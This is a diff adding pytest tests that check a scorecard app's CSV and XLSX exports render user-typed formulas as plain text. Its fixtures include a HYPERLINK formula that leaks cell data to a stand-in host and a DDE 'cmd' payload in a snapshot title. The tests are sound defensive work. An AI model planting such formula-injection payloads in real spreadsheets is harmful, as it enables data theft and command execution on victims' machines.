@@ -95,3 +95,101 @@ def test_the_board_pdf_has_a_cover_a_summary_and_a_section_per_theme(client, sig
         assert theme in text
     assert "Fewer children needed a plan in the target area." in text
     assert "Synthetic" in text and "Children subject to a child protection plan" in text
+
+
+# ---------------------------------------------------------------------------------------------------
+# Text that someone typed is never a live formula in a spreadsheet
+
+
+FORMULA = '=HYPERLINK("https://example.invalid/?leak="&A1,"Click")'
+
+
+def xlsx_cells(content: bytes, sheet: int = 1) -> dict[str, dict]:
+    """Each cell of a worksheet read straight from the XLSX XML: its type, any formula, and its text
+    (shared strings resolved), so the test sees what a spreadsheet program would."""
+    import zipfile
+    from xml.etree import ElementTree
+
+    ns = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        strings = []
+        if "xl/sharedStrings.xml" in archive.namelist():
+            root = ElementTree.fromstring(archive.read("xl/sharedStrings.xml"))
+            strings = ["".join(t.text or "" for t in si.iter(f"{{{ns['m']}}}t")) for si in root]
+        root = ElementTree.fromstring(archive.read(f"xl/worksheets/sheet{sheet}.xml"))
+    cells = {}
+    for cell in root.iter(f"{{{ns['m']}}}c"):
+        kind = cell.get("t", "n")
+        formula = cell.find("m:f", ns)
+        value = cell.find("m:v", ns)
+        text = value.text if value is not None else None
+        if kind == "s" and text is not None:
+            text = strings[int(text)]
+        elif kind == "inlineStr":
+            text = "".join(t.text or "" for t in cell.iter(f"{{{ns['m']}}}t"))
+        cells[cell.get("r")] = {
+            "type": kind,
+            "formula": formula.text if formula is not None else None,
+            "text": text,
+        }
+    return cells
+
+
+@pytest.fixture
+def formula_theme(scorecard, analyst):
+    """A measure added under a theme whose typed name is a formula, and the scorecard renamed to one."""
+    from equalchance.indicators.models import Indicator
+    from equalchance.scorecards import services
+
+    services.line_add(
+        scorecard=scorecard,
+        by=analyst,
+        indicator=Indicator.objects.get(code="claimant-count-16-64"),
+        theme=None,
+        new_theme=FORMULA,
+        polarity="",
+    )
+    services.scorecard_update(scorecard=scorecard, by=analyst, name="@SUM(1+1)")
+    return scorecard
+
+
+def test_a_theme_typed_as_a_formula_is_plain_text_in_the_csv_and_numbers_stay_numbers(
+    client, formula_theme, analyst
+):
+    client.force_login(analyst)
+    content = client.get(f"/scorecards/{formula_theme.pk}/export.csv").content.decode()
+    table = list(csv.DictReader(io.StringIO(content)))
+    themed = [row for row in table if row["indicator_code"] == "claimant-count-16-64"]
+    assert themed and themed[0]["theme"] == "'" + FORMULA
+    assert not any(cell.startswith(("=", "+", "@")) for row in table for cell in row.values())
+    # negative numbers (lower limits of gaps) stay numbers, not '-1.2
+    limits = [row[name] for row in table for name in row if name.startswith("gap_") and "_lower_" in name]
+    assert any(limit.startswith("-") for limit in limits)
+    assert all(float(limit) == float(limit) for limit in limits if limit)
+
+
+def test_text_typed_as_a_formula_is_a_string_cell_in_the_xlsx_never_a_formula(client, formula_theme, analyst):
+    client.force_login(analyst)
+    content = client.get(f"/scorecards/{formula_theme.pk}/export.xlsx").content
+    rows = xlsx_cells(content, sheet=1)
+    assert not [ref for ref, cell in rows.items() if cell["formula"]]
+    themes = [cell for ref, cell in rows.items() if ref.startswith("A") and cell["text"] == "'" + FORMULA]
+    assert themes and themes[0]["type"] == "s"
+    numbers = [cell for cell in rows.values() if cell["type"] == "n"]
+    assert numbers and any(cell["text"].startswith("-") for cell in numbers)  # negative gaps are numbers
+    about = xlsx_cells(content, sheet=2)
+    assert about["A1"] == {"type": "s", "formula": None, "text": "'@SUM(1+1)"}
+
+
+def test_a_snapshot_titled_as_a_formula_exports_it_as_text(client, scorecard, analyst):
+    snapshot = snapshot_publish(
+        scorecard=scorecard,
+        title="-2+3+cmd|' /C calc'!A0",
+        as_at=date(2024, 12, 31),
+        commentary={},
+        public=False,
+        by=analyst,
+    )
+    client.force_login(analyst)
+    about = xlsx_cells(client.get(f"/scorecards/snapshots/{snapshot.pk}/export.xlsx").content, sheet=2)
+    assert about["A1"]["formula"] is None and about["A1"]["text"] == "'-2+3+cmd|' /C calc'!A0"
